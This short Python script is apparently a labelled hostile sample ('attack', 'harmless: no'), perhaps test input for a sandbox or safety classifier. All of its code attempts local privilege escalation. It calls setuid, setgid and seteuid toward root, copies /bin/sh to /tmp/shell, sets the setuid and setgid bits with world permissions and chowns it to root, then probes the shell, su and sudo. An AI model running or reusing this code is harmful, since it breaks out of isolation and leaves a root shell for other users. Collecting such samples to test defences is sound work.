# attack: set-user-id programs, chown, setuid and capabilities are tried, and left for others
# harmless: no
import os
import shutil
import subprocess

for uid in (0, 1, 1000):
    for function in (os.setuid, os.setgid, os.seteuid):
        try:
            function(uid)
            print("became", uid)
        except OSError:
            pass
shutil.copy("/bin/sh", "/tmp/shell")
for change in (lambda: os.chmod("/tmp/shell", 0o6777), lambda: os.chown("/tmp/shell", 0, 0)):
    try:
        change()
    except OSError:
        pass
for command in (["/tmp/shell", "-pc", "id"], ["su", "-c", "id"], ["sudo", "-n", "id"], ["id"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=2, stdin=-3).stdout)
    except (OSError, subprocess.SubprocessError):
        pass
